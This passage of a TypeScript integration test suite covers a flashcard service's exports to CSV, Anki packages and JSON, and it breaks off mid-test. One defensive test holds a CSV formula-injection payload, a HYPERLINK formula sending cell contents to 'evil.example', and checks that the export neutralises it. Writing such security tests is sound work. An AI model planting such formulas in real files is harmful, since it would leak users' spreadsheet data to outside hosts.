// Exports through the ExportService, run by the work queue's job as in main.ts (real PostgreSQL, NATS and the
// S3 stand-in): the learner's chosen cards as CSV, their cards as an Anki package with files, review history
// and memory state, and everything as JSON with the other services' parts; each downloaded through a link that
// works until the file expires. Another learner sees none of it, bad requests change nothing, and a learner has at
// most two exports queued or running.
import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createExport } from '@engram/anki/from-engram';
import { GENERATED_NOTE_TYPES, generateCollection } from '@engram/anki/generate-collection';
import { openPackage } from '@engram/anki/open-package';
import { engramNoteTypes } from '@engram/anki/to-engram';
import { createPool } from '@engram/kit/db';
import { ankiWrittenPackages, COMMITTED_WITNESSES } from '@engram/testkit/anki-witnesses';
import { BACKGROUND_JOB_WAIT_MS, waitUntil } from '@engram/testkit/wait';
import { status } from '@grpc/grpc-js';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Stores } from '../../src/db.js';
import { writeApkg, writeCsv } from '../../src/exports/export-files.js';
import { exportedCards } from '../../src/exports/exported-cards.js';
import { settingsOf } from '../../src/learner/settings.js';
import { readSettings } from '../../src/learner/settings-store.js';
import { sweepObjects } from '../../src/media/sweeper.js';
import { type CardsHarness, startCardsHarness } from '../harness.js';

let cards: CardsHarness;
let dir: string;

beforeAll(async () => {
  cards = await startCardsHarness();
  dir = await mkdtemp(join(tmpdir(), 'engram-export-test-'));
}, 60_000);

afterAll(async () => {
  await cards?.stop();
  await rm(dir, { recursive: true, force: true });
});

const learner = (name: string) => `${name}-${randomUUID().slice(0, 8)}`;

async function finished(userId: string, exportId: string) {
  let current = await cards.as(userId).getExport({ exportId });
  await waitUntil(
    'the export finished',
    async () => {
      current = await cards.as(userId).getExport({ exportId });
      return current.status === 'done' || current.status === 'failed';
    },
    BACKGROUND_JOB_WAIT_MS,
  );
  return current;
}

/** Imports the package `bytes` (named `name`) for `userId`, as the learner's upload, and waits for it to be done. */
async function importPackage(userId: string, name: string, bytes: Buffer) {
  const { importId } = await cards
    .as(userId)
    .startImport({ uploadId: await cards.uploadToImport(userId, name, bytes) });
  await waitUntil(
    'the import finished',
    async () => (await cards.as(userId).getImport({ importId })).status === 'done',
    BACKGROUND_JOB_WAIT_MS,
  );
}

async function download(url: string): Promise<Buffer> {
  const answer = await fetch(url);
  expect(answer.status).toBe(200);
  return Buffer.from(await answer.arrayBuffer());
}

async function tagged(userId: string, front: string, back: string, tagNames: string[]) {
  const tagIds: string[] = [];
  for (const name of tagNames) {
    const existing = (await cards.as(userId).listTags({ pageSize: 100 })).items.find((tag) => tag.name === name);
    tagIds.push(existing?.id ?? (await cards.as(userId).createTag({ name })).tag!.id);
  }
  return (await cards.as(userId).createCard({ front, back, tagIds })).card!;
}

describe('exporting cards as CSV', () => {
  it('holds the cards with the chosen tags, downloaded through a link named for the file', async () => {
    const ann = learner('ann');
    await tagged(ann, 'hola', 'hello', ['spanish']);
    await tagged(ann, 'Bonjour, "ami"', 'Hello, friend', ['french']);
    const french = (await cards.as(ann).listTags({ pageSize: 10 })).items.find((tag) => tag.name === 'french')!;
    const { exportId } = await cards.as(ann).startExport({ format: 'csv', tagIds: [french.id] });
    const done = await finished(ann, exportId);
    expect(done).toMatchObject({ format: 'csv', status: 'done', progressDone: 1, progressTotal: 1 });
    expect(done.fileName).toMatch(/^engram-cards-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(done.expiresAt!.getTime()).toBeGreaterThan(Date.now() + 23 * 3_600_000);
    const answer = await fetch(done.url);
    expect(answer.headers.get('content-disposition')).toContain(done.fileName);
    const text = (await answer.text()).replace(/^\uFEFF/, '');
    expect(text).toBe('front,back,tags,type\r\n"Bonjour, ""ami""","Hello, friend",french,basic\r\n');
  });
});

describe('a CSV export opened in a spreadsheet', () => {
  it('holds a cell a spreadsheet would run as a formula as text, with an apostrophe before it', async () => {
    const ann = learner('ann');
    await tagged(ann, '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '+1 555 0100', ['@home', 'phone']);
    await tagged(ann, '-5 °C', "'=already marked", ['-cold']);
    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
    const done = await finished(ann, exportId);
    const text = (await (await fetch(done.url)).text()).replace(/^\uFEFF/, '');
    const rows = text.split('\r\n').slice(1, -1).sort();
    expect(rows).toEqual([
      `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",'+1 555 0100,'@home phone,basic`,
      "'-5 °C,''=already marked,'-cold,basic",
    ]);
  });

  it("imports again as the same cards, those beginning with = or - included (Engram's import takes the mark off)", async () => {
    const ann = learner('ann');
    const bob = learner('bob');
    await tagged(ann, '=1+1', '2', ['=maths']);
    await tagged(ann, '- a list item', "'quoted", ['-negative', 'plain']);
    await tagged(ann, "'=looks marked", '@noon', ['@place']);
    const { exportId } = await cards.as(ann).startExport({ format: 'csv' });
    const done = await finished(ann, exportId);
    const uploadId = await cards.uploadToImport(bob, 'from-ann.csv', await download(done.url));
    const { importId } = await cards.as(bob).startImport({ uploadId });
    await waitUntil(
      'the import finished',
      async () => {
        const imported = await cards.as(bob).getImport({ importId });
        return imported.status === 'done' || imported.status === 'failed';
      },
      BACKGROUND_JOB_WAIT_MS,
    );
    expect(await cards.as(bob).getImport({ importId })).toMatchObject({
      status: 'done',
      counts: { cards: 3, skipped: 0 },
    });
    const shape = async (userId: string) =>
      (await cards.list(userId, { pageSize: 100 })).items
        .map((card) => ({ front: card.front, back: card.back, tags: card.tags.map((tag) => tag.name).sort() }))
        .sort((a, b) => a.front.localeCompare(b.front));
    expect(await shape(bob)).toEqual(await shape(ann));
  });
});

describe('exporting cards as an Anki package', () => {
  it('holds the cards with their files, tags as decks and review history', async () => {
    const ann = learner('ann');
    const png = await sharp({ create: { width: 8, height: 8, channels: 3, background: '#a33' } })
      .png()
      .toBuffer();
    const image = await cards.keepFile(ann, 'red square.png', 'image/png', png);
    await tagged(ann, `What colour? ![square](${image.path})`, 'Red', ['Colours::Warm']);
    const { items } = await cards.as(ann).listDue({});
    await cards.as(ann).review({ id: items[0]!.id, rating: 'good', reviewId: randomUUID(), durationMs: 4_000 });

    const { exportId } = await cards.as(ann).startExport({ format: 'apkg' });
    const done = await finished(ann, exportId);
    expect(done.status).toBe('done');
    const path = join(dir, `${exportId}.apkg`);
    await writeFile(path, await download(done.url));
    const reader = await openPackage(path);
    try {
      expect(reader.counts()).toEqual({ notes: 1, cards: 1, revlog: 1 });
      expect(reader.decks().map((deck) => deck.name)).toContain('Colours::Warm');
      const [note] = [...reader.notes()].flat();
      expect(note?.fields[0]).toContain('<img src="red square.png"');
      expect(reader.media().map((file) => file.name)).toEqual(['red square.png']);
      const [revlog] = [...reader.revlog()].flat();
      expect(revlog).toMatchObject({ ease: 3 });
    } finally {
      reader.close();
    }
  });
});

describe('an Anki export imported again', () => {
  it('gives another learner the same cards, tags, files, review history and memory state', async () => {
    const ann = learner('ann');
    const bob = learner('bob');
    const png = await sharp({ create: { width: 6, height: 6, channels: 3, background: '#36c' } })
      .png()
      .toBuffer();
    const image = await cards.keepFile(ann, 'blue.png', 'image/png', png);
    await tagged(ann, `Which colour? ![blue](${image.path})`, 'Blue', ['Colours::Cold']);
    const biology = (await cards.as(ann).createTag({ name: 'biology' })).tag!;
    await cards.as(ann).createCard({
      front: 'The {{c1::mitochondrion}} makes {{c2::energy}}',
      back: '',
      type: 'cloze',
      tagIds: [biology.id],
    });
    await cards.as(ann).createCard({ front: 'gato', back: 'cat', type: 'reversed' });
    await cards.as(ann).createCard({ front: 'Capital of Peru?', back: 'Lima', type: 'typed' });
    for (const item of (await cards.as(ann).listDue({})).items.slice(0, 3)) {
      await cards.as(ann).review({ id: item.id, rating: 'good', reviewId: randomUUID(), durationMs: 3_000 });
    }
    const { exportId } = await cards.as(ann).startExport({ format: 'apkg' });
    const done = await finished(ann, exportId);

    const uploadId = await cards.uploadToImport(bob, 'from-ann.apkg', await download(done.url));
    const { importId } = await cards.as(bob).startImport({ uploadId });
    let imported = await cards.as(bob).getImport({ importId });
    await waitUntil(
      'the import finished',
      async () => {
        imported = await cards.as(bob).getImport({ importId });
        return imported.status === 'done' || imported.status === 'failed';
      },
      BACKGROUND_JOB_WAIT_MS,
    );
    expect(imported).toMatchObject({
      status: 'done',
      counts: { notes: 4, cards: 4, reviews: 3, media: 1, skipped: 0 },
    });

    const shape = async (userId: string) => {
      const { items } = await cards.list(userId, { pageSize: 100 });
      return items
        .map((card) => ({
          type: card.type,
          front: card.front.replace(/\/media\/[0-9a-f-]+\//, '/media/<id>/'),
          back: card.back,
          tags: card.tags.map((tag) => tag.name).sort(),
        }))
        .sort((a, b) => a.front.localeCompare(b.front));
    };
    expect(await shape(bob)).toEqual(await shape(ann));
    const history = async (userId: string) =>
      (await cards.db.reviewLog.findMany({ where: { ownerId: userId }, orderBy: { reviewedAt: 'asc' } })).map(
        (log) => ({ rating: log.rating, at: Math.floor(log.reviewedAt.getTime() / 1000) }),
      );
    expect(await history(bob)).toEqual(await history(ann));
    const memory = async (userId: string) =>
      (await cards.db.reviewItem.findMany({ where: { ownerId: userId, reps: { gt: 0 } } }))
        .map((item) => Number(item.stability.toFixed(2)))
        .sort();
    expect(await memory(bob)).toEqual(await memory(ann));
    const bobsFile = (await cards.as(bob).listMedia({})).items[0];
    expect(bobsFile).toMatchObject({ name: 'blue.png', cardCount: 1 });
  });
});

describe('a package Anki wrote, imported and exported again', () => {
  it('puts each card back in its Anki deck, a deck of one level too', async () => {
    // Written by Anki 2.0 (packages/anki/test/anki-written/SOURCES.md): decks example-test and
    // example-test::Level1; "TopLevel" is in example-test, a deck no `::` marks as one.
    const ann = learner('ann');
    const witness = await readFile(join(COMMITTED_WITNESSES, 'anki-js-example.apkg'));
    await importPackage(ann, 'deck.apkg', witness);
    const decks = await cards.db.tag.findMany({ where: { ownerId: ann, ankiDeck: true }, orderBy: { name: 'asc' } });
    expect(decks.map((tag) => tag.name)).toEqual(['example-test', 'example-test::Level1']);

    const { exportId } = await cards.as(ann).startExport({ format: 'apkg' });
    const path = join(dir, `${exportId}.apkg`);
    await writeFile(path, await download((await finished(ann, exportId)).url));
    const reader = await openPackage(path);
    try {
      const deckNames = new Map(reader.decks().map((deck) => [deck.id, deck.name]));
      const notes = new Map([...reader.notes()].flat().map((note) => [note.id, note.fields[0]]));
      const placed = [...reader.cards()].flat().map((card) => [notes.get(card.noteId), deckNames.get(card.deckId)]);
      expect(placed.sort()).toEqual([
        ['Another', 'example-test::Level1'],
        ['Test it', 'example-test::Level1'],
        ['TopLevel', 'example-test'],
      ]);
    } finally {
      reader.close();
    }
  });
});

describe('a note type of its own, imported and exported again', () => {
  /** The note types and notes of an exported package, as Anki reads them. */
  async function exportedNotes(userId: string) {
    const { exportId } = await cards.as(userId).startExport({ format: 'apkg' });
    const path = join(dir, `${exportId}.apkg`);
    await writeFile(path, await download((await finished(userId, exportId)).url));
    const reader = await openPackage(path);
    try {
      const notes = [...reader.notes()].flat();
      const cardsOf = [...reader.cards()].flat();
      return { types: reader.noteTypes(), notes, cards: cardsOf };
    } finally {
      reader.close();
    }
  }

  it('goes back to Anki as the same note type, as Anki wrote it, each note with its fields and cards', async () => {
    const ann = learner('ann');
    const file = join(dir, `${randomUUID()}.apkg`);
    await generateCollection(file, { layout: 'anki21b', notes: 8, reviewsPerCard: 1 });
    await importPackage(ann, 'vocabulary.apkg', await readFile(file));
    const original = GENERATED_NOTE_TYPES.find((type) => type.name === 'Vocabulary')!;
    const exported = await exportedNotes(ann);
    const vocabulary = exported.types.find((type) => type.name === 'Vocabulary')!;
    expect(vocabulary).toMatchObject({ id: original.id, fields: original.fields, templates: original.templates });
    // Notes 3 and 7 are vocabulary notes: their fields as Anki had them, both their cards.
    const notes = exported.notes.filter((note) => note.noteTypeId === vocabulary.id);
    expect(notes.map((note) => note.fields[1]).sort()).toEqual(['meaning 3', 'meaning 7']);
    const ords = exported.cards.filter((card) => notes.some((note) => note.id === card.noteId)).map((c) => c.ordinal);
    expect(ords.sort()).toEqual([0, 0, 1, 1]);

    // Edited in Engram, it goes out from its Engram templates, the question above each answer as Anki shows it.
    const type = (await cards.as(ann).listNoteTypes({})).items.find((item) => item.name === 'Vocabulary')!;
    await cards.as(ann).updateNoteType({
      id: type.id,
      name: 'Vocabulary',
      fields: type.fields,
      templates: [
        { name: 'Recognise', front: '**{{Word}}**', back: '{{Meaning}}' },
        { name: 'Recall', front: '{{Meaning}}', back: '{{Word}}' },
        { name: 'Use', front: '{{#Example}}{{Example}}{{/Example}}', back: '{{Word}}' },
      ],
    });
    const edited = (await exportedNotes(ann)).types.find((item) => item.name === 'Vocabulary')!;
    expect(edited.id).toBe(original.id);
    expect(edited.templates.map(({ name, qfmt, afmt }) => [name, qfmt, afmt])).toEqual([
      ['Recognise', '<strong>{{Word}}</strong>', '{{FrontSide}}\n\n<hr id=answer>\n\n{{Meaning}}'],
      ['Recall', '{{Meaning}}', '{{FrontSide}}\n\n<hr id=answer>\n\n{{Word}}'],
      ['Use', '{{#Example}}{{Example}}{{/Example}}', '{{FrontSide}}\n\n<hr id=answer>\n\n{{Word}}'],
    ]);
  });

  it("comes in numbered beside a type of the learner's of the same name, and goes back under its Anki name", async () => {
    const bea = learner('bea');
    await cards.as(bea).createNoteType({
      name: 'vocabulary',
      kind: 'standard',
      fields: ['Term', 'Gloss'],
      templates: [{ name: 'Card 1', front: '{{Term}}', back: '{{Gloss}}' }],
    });
    const file = join(dir, `${randomUUID()}.apkg`);
    await generateCollection(file, { layout: 'anki21b', notes: 8, reviewsPerCard: 1 });
    await importPackage(bea, 'vocabulary.apkg', await readFile(file));
    const original = GENERATED_NOTE_TYPES.find((type) => type.name === 'Vocabulary')!;
    const own = (await cards.as(bea).listNoteTypes({})).items.filter((item) => !item.stock);
    const byNotes = own.sort((a, b) => a.notes - b.notes);
    expect(byNotes.map((item) => [item.name, item.fields, item.notes])).toEqual([
      ['vocabulary', ['Term', 'Gloss'], 0],
      ['Vocabulary (2)', original.fields, 2],
    ]);
    const exported = (await exportedNotes(bea)).types.find((type) => type.id === original.id);
    expect(exported?.name).toBe('Vocabulary');
  });
});

describe("packages Anki wrote with note types of the learner's own, imported and exported again", () => {
  /** The note types of a package of its own making, each with its notes' fields and their cards' ordinals. */
  async function ownNoteTypes(path: string) {
    const reader = await openPackage(path);
    try {
      const own = engramNoteTypes(reader.noteTypes());
      const notes = [...reader.notes()].flat();
      const cardsOf = [...reader.cards()].flat();
      return [...own.values()]
        .map((type) => {
          const anki = reader.noteTypes().find((each) => each.id === type.ankiId)!;
          const ofType = notes.filter((note) => note.noteTypeId === anki.id);
          return {
            name: anki.name,
            fields: anki.fields,
            templates: anki.templates.map(({ name, qfmt, afmt }) => ({ name, qfmt, afmt })),
            notes: ofType
              .map((note) => ({
                first: note.fields[0],
                ords: cardsOf
                  .filter((card) => card.noteId === note.id)
                  .map((card) => card.ordinal)
                  .sort(),
              }))
              .sort((a, b) => String(a.first).localeCompare(String(b.first))),
          };
        })
        .filter((type) => type.notes.length > 0)
        .sort((a, b) => a.name.localeCompare(b.name));
    } finally {
      reader.close();
    }
  }

  for (const path of ankiWrittenPackages()) {
    it(`goes back as Anki wrote it: ${path.split('/').at(-1)}`, async () => {
      const before = await ownNoteTypes(path);
      const ann = learner('ann');
      await importPackage(ann, path.split('/').at(-1)!, await readFile(path));
      const { exportId } = await cards.as(ann).startExport({ format: 'apkg' });
      const exported = join(dir, `${exportId}.apkg`);
      await writeFile(exported, await download((await finished(ann, exportId)).url));
      // The same note types with the same fields and templates, each note with the cards it had.
      expect(await ownNoteTypes(exported)).toEqual(before);
    });
  }
});

describe('exporting everything as JSON', () => {
  it("holds the other services' parts and every card with its reviews, settings, tags and files", async () => {
    const ann = learner('ann');
    const card = await tagged(ann, 'Mitochondrion', 'The powerhouse of the cell', ['biology']);
    const { items } = await cards.as(ann).listDue({});
    const organelles = await cards.as(ann).createNoteType({
      name: 'Organelles',
      fields: ['Organelle', 'Role'],
      templates: [{ name: 'Role', front: '{{Organelle}}', back: '{{Role}}' }],
    });
    const { card: note } = await cards
      .as(ann)
      .createCard({ noteTypeId: organelles.id, fieldValues: ['Ribosome', 'Makes proteins'] });
    const reviewId = randomUUID();
    await cards.as(ann).review({ id: items[0]!.id, rating: 'easy', reviewId, durationMs: 2_500 });
    const identity = { profile: { name: 'Ann', email: 'ann@example.com' }, sessions: [] };
    const { exportId } = await cards.as(ann).startExport({
      format: 'json',
      parts: { identity: JSON.stringify(identity), billing: JSON.stringify({ plan: 'free' }) },
    });
    const done = await finished(ann, exportId);
    expect(done.fileName).toMatch(/^engram-data-.*\.json$/);
    const data = JSON.parse((await download(done.url)).toString('utf8'));
    expect(data).toMatchObject({ format: 'engram-export', version: 1, identity, billing: { plan: 'free' } });
    expect(data.cards.settings).toMatchObject({ desiredRetention: 0.9 });
    expect(data.cards.tags.map((tag: { name: string }) => tag.name)).toEqual(['biology']);
    expect(data.cards.cards).toHaveLength(2);
    const exported = (id: string) => data.cards.cards.find((each: { id: string }) => each.id === id);
    expect(exported(card.id)).toMatchObject({
      id: card.id,
      front: 'Mitochondrion',
      tags: ['biology'],
      reviews: [{ id: reviewId, rating: 4, durationMs: 2_500 }],
    });
    expect(exported(card.id).items[0].stability).toBeGreaterThan(0);
    // A note with its note type's id and its fields, the type among the learner's own.
    expect(exported(note!.id)).toMatchObject({ noteTypeId: organelles.id, fields: ['Ribosome', 'Makes proteins'] });
    expect(data.cards.noteTypes).toMatchObject([
      { id: organelles.id, name: 'Organelles', fields: ['Organelle', 'Role'], templates: [{ name: 'Role' }] },
    ]);
  });
});

describe("an export's reading of the cards", () => {
  it("takes the learner's own cards in one pass, in the order they were made, and hands its connection back when the export stops early", async () => {
    const ann = learner('ann');
    await tagged(ann, 'one', 'uno', ['spanish']);
    const second = await tagged(ann, 'two', 'dos', []);
    await tagged(learner('bob'), 'three', 'tres', ['spanish']);
    const read = [];
    for await (const page of exportedCards(cards.pool, ann, { tagIds: [], cardIds: [] })) read.push(...page);
    const { rows: made } = await cards.pool.query<{ front: string }>(
      'SELECT front FROM cards WHERE owner_id = $1 ORDER BY created_at, id',
      [ann],
    );
    expect(made).toHaveLength(2);
    expect(read.map((card) => card.front)).toEqual(made.map((row) => row.front));
    expect(read.find((card) => card.front === 'one')).toMatchObject({ tags: ['spanish'], items: [{ ordinal: 0 }] });
    // A Browse selection: only the cards chosen, the learner's own.
    const chosen = [];
    for await (const page of exportedCards(cards.pool, ann, { tagIds: [], cardIds: [second.id] })) chosen.push(...page);
    expect(chosen.map((card) => card.front)).toEqual(['two']);

    // Those with a tag: each with its items and its reviews (oldest first, none undone), their times to the ms.
    const card = await tagged(ann, 'three', 'tres', ['spanish']);
    const spanish = (await cards.as(ann).listTags({ pageSize: 100 })).items.find((tag) => tag.name === 'spanish')!;
    const { rows: itemRows } = await cards.pool.query<{ id: string }>(
      'SELECT id::text FROM review_items WHERE card_id = $1',
      [card.id],
    );
    const reviewIds = [randomUUID(), randomUUID(), randomUUID()];
    for (const [n, reviewId] of reviewIds.entries()) {
      await cards
        .as(ann)
        .review({ id: itemRows[0]!.id, rating: n === 0 ? 'again' : 'good', reviewId, durationMs: 1_000 });
    }
    await cards.as(ann).undoReview({ reviewId: reviewIds[2]! });
    const tagRead = [];
    for await (const page of exportedCards(cards.pool, ann, { tagIds: [spanish.id], cardIds: [] }))
      tagRead.push(...page);
    expect(tagRead.map((each) => each.front).sort()).toEqual(['one', 'three']);
    const three = tagRead.find((each) => each.front === 'three')!;
    const { rows: stored } = await cards.pool.query<{ id: string; reviewed_at: Date; due_after: Date }>(
      'SELECT id::text, reviewed_at, due_after FROM review_logs WHERE card_id = $1 AND undone_at IS NULL ORDER BY seq',
      [card.id],
    );
    expect(three.reviews).toEqual(
      stored.map((row, n) =>
        expect.objectContaining({
          id: row.id,
          itemOrdinal: 0,
          rating: n === 0 ? 1 : 3,
          durationMs: 1_000,
          reviewedAt: row.reviewed_at,
          dueAfter: row.due_after,
        }),
      ),
    );
    expect(stored.map((row) => row.id)).toEqual(reviewIds.slice(0, 2));
    const { rows: items } = await cards.pool.query<{ due: Date; last_review: Date; stability: number }>(
      'SELECT due, last_review, stability FROM review_items WHERE card_id = $1',
      [card.id],
    );
    expect(three.items).toEqual([
      expect.objectContaining({ ordinal: 0, due: items[0]!.due, lastReview: items[0]!.last_review, reps: 2 }),
    ]);
    expect(three.items[0]!.stability).toBe(items[0]!.stability);
    expect(tagRead.find((each) => each.front === 'one')!.items).toEqual([
      expect.objectContaining({ ordinal: 0, state: 0, lastReview: null, reps: 0 }),
    ]);

    // A pool of one connection, the export's own: the service's background work (its outbox, its work queue)
    // borrows connections of the shared pool at any moment.
    const own = createPool(cards.databaseUrl, { max: 1 });
    try {
      for await (const _page of exportedCards(own, ann, { tagIds: [], cardIds: [] })) break;
      // The connection is back in the pool, outside the export's read-only transaction and with no cursor left.
      expect({ idle: own.idleCount, total: own.totalCount }).toEqual({ idle: 1, total: 1 });
      const { rows } = await own.query<{ read_only: string; cursors: number }>(
        "SELECT current_setting('transaction_read_only') AS read_only, (SELECT count(*)::int FROM pg_cursors) AS cursors",
      );
      expect(rows[0]).toEqual({ read_only: 'off', cursors: 0 });
    } finally {
      await own.end();
    }
  });
});

describe("an Anki export's review history", () => {
  /** A package's notes, cards and review log, as Anki would read them. */
  async function tablesOf(path: string) {
    const reader = await openPackage(path);
    try {
      return {
        notes: [...reader.notes()].flat(),
        cards: [...reader.cards()].flat(),
        revlog: [...reader.revlog()].flat(),
      };
    } finally {
      reader.close();
    }
  }

  const apkgJob = (ownerId: string, tagIds: string[]) => ({
    id: randomUUID(),
    ownerId,
    tagIds,
    cardIds: [],
    parts: {},
  });
  const apkgContext = (pool: Stores['pool'], signal: AbortSignal) => ({
    stores: { pool } as unknown as Stores,
    store: cards.store,
    dir,
    signal,
    progress: async () => undefined,
  });

  it("is read beside the cards, in their snapshot, as the revlog their own reviews make: Anki's reviews, learning steps, a lapse, an undone review, a chosen tag", async () => {
    const ann = learner('ann');
    // A collection shaped as Anki keeps one, with its history (reviews days apart, suspended cards, occlusion notes).
    const file = join(dir, 'history.apkg');
    await generateCollection(file, {
      layout: 'anki21b',
      notes: 60,
      reviewsPerCard: 5,
      withFsrsState: true,
      occlusionEvery: 10,
      suspendEvery: 7,
    });
    await importPackage(ann, 'history.apkg', await readFile(file));
    // And every package Anki itself wrote that this run can read, with the histories Anki kept (learning steps,
    // reviews, relearning: the witnesses of SOURCES.md, where ANKI_WITNESSES or ../shared/anki-packages has them).
    for (const path of ankiWrittenPackages()) await importPackage(ann, path.split('/').at(-1)!, await readFile(path));
    // And a word learnt here: its learning steps, a lapse once learnt, and a review taken back.
    const word = await tagged(ann, 'perro', 'dog', ['spanish']);
    const { rows: itemRows } = await cards.pool.query<{ id: string }>(
      'SELECT id::text FROM review_items WHERE card_id = $1',
      [word.id],
    );
    const ratings = ['again', 'good', 'good', 'good', 'again', 'good', 'hard'] as const;
    const reviewIds = ratings.map(() => randomUUID());
    for (const [n, rating] of ratings.entries()) {
      await cards
        .as(ann)
        .review({ id: itemRows[0]!.id, rating, reviewId: reviewIds[n]!, durationMs: 2_000 + 90_000 * n });
    }
    await cards.as(ann).undoReview({ reviewId: reviewIds.at(-1)! });
    const spanish = (await cards.as(ann).listTags({ pageSize: 100 })).items.find((tag) => tag.name === 'spanish')!;
    const { desiredRetention } = settingsOf(await readSettings(cards.pool, ann));

    for (const tagIds of [[], [spanish.id]]) {
      // As the export job writes it: the reviews read apart, PostgreSQL making their revlog rows.
      const apart = join(dir, `apart-${randomUUID()}.apkg`);
      await writeApkg(apart, apkgJob(ann, tagIds), apkgContext(cards.pool, new AbortController().signal));
      // Each card with its reviews, their rows made one card at a time.
      const together = join(dir, `together-${randomUUID()}.apkg`);
      const anki = await createExport(together, { desiredRetention, tempDir: dir });
      for await (const page of exportedCards(cards.pool, ann, { tagIds, cardIds: [] })) {
        for (const card of page) anki.addCard(card);
      }
      await anki.finish();

      const written = await tablesOf(apart);
      expect(written).toEqual(await tablesOf(together));
      if (tagIds.length === 0) {
        expect(written.revlog.length).toBeGreaterThan(300);
        expect(written.revlog.map((entry) => entry.type)).toEqual(expect.arrayContaining([0, 1, 2]));
      } else {
        // The word alone: six reviews (the undone one left out), its learning steps in seconds.
        expect(written.revlog.map((entry) => entry.ease)).toEqual([1, 3, 3, 3, 1, 3]);
        expect(written.revlog.filter((entry) => entry.interval < 0).length).toBeGreaterThan(0);
        expect(written.revlog.at(-1)!.timeMs).toBe(60_000);
      }
    }
  });

  it('hands both its connections back when the export stops, leaving no file', async () => {
    const ann = learner('ann');
    await cards.as(ann).createCards({
      cards: Array.from({ length: 3 }, (_, i) => ({ front: `word ${i}`, back: `${i}` })),
      idempotencyKey: randomUUID(),
    });
    const { items } = await cards.as(ann).listDue({});
    await cards.as(ann).review({ id: items[0]!.id, rating: 'good', reviewId: randomUUID(), durationMs: 1_000 });
    // A pool of the two connections an Anki export reads with (its cards, their reviews).
    const own = createPool(cards.databaseUrl, { max: 2 });
    try {
      const stopped = new AbortController();
      stopped.abort(new Error('the replica is shutting down'));
      const path = join(dir, `stopped-${randomUUID()}.apkg`);
      await expect(writeApkg(path, apkgJob(ann, []), apkgContext(own, stopped.signal))).rejects.toThrow(
        'the replica is shutting down',
      );
      await expect(readFile(path)).rejects.toThrow(/ENOENT/);
      expect({ idle: own.idleCount, total: own.totalCount }).toEqual({ idle: 2, total: 2 });
      // Each outside any transaction, with no cursor left (asked at once: one question on each).
      const state = () =>
        own.query<{ read_only: string; cursors: number }>(
          "SELECT current_setting('transaction_read_only') AS read_only, (SELECT count(*)::int FROM pg_cursors) AS cursors",
        );
      const answers = await Promise.all([state(), state()]);
      expect(answers.map(({ rows }) => rows[0])).toEqual([
        { read_only: 'off', cursors: 0 },
        { read_only: 'off', cursors: 0 },
      ]);
      // And an export on the same pool afterwards is whole.
      const again = join(dir, `again-${randomUUID()}.apkg`);
      await writeApkg(again, apkgJob(ann, []), apkgContext(own, new AbortController().signal));
      expect((await tablesOf(again)).revlog).toHaveLength(1);
    } finally {
      await own.end();
    }
  });
});

describe("an Anki export's files", () => {
  const apkgJob = (ownerId: string) => ({ id: randomUUID(), ownerId, tagIds: [], cardIds: [], parts: {} });

  // Six cards of a learner's, each showing a picture of its own: more than the four fetched at once.
  const ann = learner('ann');
  beforeAll(async () => {
    // Three at a time: a learner has at most four files being checked.
    for (const first of [0, 3]) {
      await Promise.all(
        [first, first + 1, first + 2].map(async (i) => {
          const png = await sharp({
            create: { width: 4, height: 4, channels: 3, background: { r: 40 * i, g: 0, b: 0 } },
          })
            .png()
            .toBuffer();
          const picture = await cards.keepFile(ann, `shade ${i}.png`, 'image/png', png);
          await cards.as(ann).createCard({ front: `Which shade? ![shade](${picture.path})`, back: `${i}` });
        }),
      );
    }
  }, 60_000);

  it('are fetched while the cards go on being written: every card is written while the store holds the files back, and each file is in the package', async () => {
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => {
      release = resolve;
    });
    let asked = 0;
    // The store, its answers held back until the cards are written.
    const slowStore = Object.assign(Object.create(cards.store) as typeof cards.store, {
      getObject: async (key: string) => {
        asked++;
        await held;
        return cards.store.getObject(key);
      },
    });
    const reported: number[] = [];
    const path = join(dir, `held-${randomUUID()}.apkg`);
    const writing = writeApkg(path, apkgJob(ann), {
      stores: { pool: cards.pool } as unknown as Stores,
      store: slowStore,
      dir,
      signal: new AbortController().signal,
      progress: async (done: number) => {
        reported.push(done);
      },
    });
    try {
      await waitUntil('every card written', async () => reported.includes(6), BACKGROUND_JOB_WAIT_MS);
      // Four asked for, none come yet: the cards did not wait for them.
      expect(asked).toBe(4);
    } finally {
      release();
      await writing;
    }
    const reader = await openPackage(path);
    try {
      expect(reader.counts()).toMatchObject({ notes: 6, cards: 6 });
      expect(
        reader
          .media()
          .map((file) => file.name)
          .sort(),
      ).toEqual(Array.from({ length: 6 }, (_, i) => `shade ${i}.png`));
    } finally {
      reader.close();
    }
  });

  it('that cannot be fetched fail the export, leaving no file', async () => {
    let asked = 0;
    const failingStore = Object.assign(Object.create(cards.store) as typeof cards.store, {
      getObject: async (key: string) => {
        if (++asked === 5) throw new Error('the bucket is unreachable');
        return cards.store.getObject(key);
      },
    });
    const path = join(dir, `unreachable-${randomUUID()}.apkg`);
    await expect(
      writeApkg(path, apkgJob(ann), {
        stores: { pool: cards.pool } as unknown as Stores,
        store: failingStore,
        dir,
        signal: new AbortController().signal,
        progress: async () => undefined,
      }),
    ).rejects.toThrow('the bucket is unreachable');
    await expect(readFile(path)).rejects.toThrow(/ENOENT/);
  });
});

describe("an export's progress", () => {
  it('is recorded one update at a time as the pages are written, and an update that cannot be recorded fails the export', async () => {
    const ann = learner('ann');
    // 1,001 cards: three pages of the export's reading (500 a page).
    for (const size of [500, 500, 1]) {
      const made = Array.from({ length: size }, (_, i) => ({ front: `question ${size}-${i}`, back: 'answer' }));
      await cards.as(ann).createCards({ cards: made, idempotencyKey: randomUUID() });
    }
    const job = { id: randomUUID(), ownerId: ann, tagIds: [], cardIds: [], parts: {} };
    const context = (progress: (done: number) => Promise<unknown>) => ({
      stores: { pool: cards.pool } as unknown as Stores,
      store: undefined as never,
      dir,
      signal: new AbortController().signal,
      progress,
    });

    const reported: number[] = [];
    let recording = 0;
    let mostAtOnce = 0;
    const record = async (done: number) => {
      recording++;
      mostAtOnce = Math.max(mostAtOnce, recording);
      reported.push(done);
      // A database that takes its time: the next pages are written meanwhile.
      await new Promise((resolve) => setTimeout(resolve, 20));
      recording--;
    };
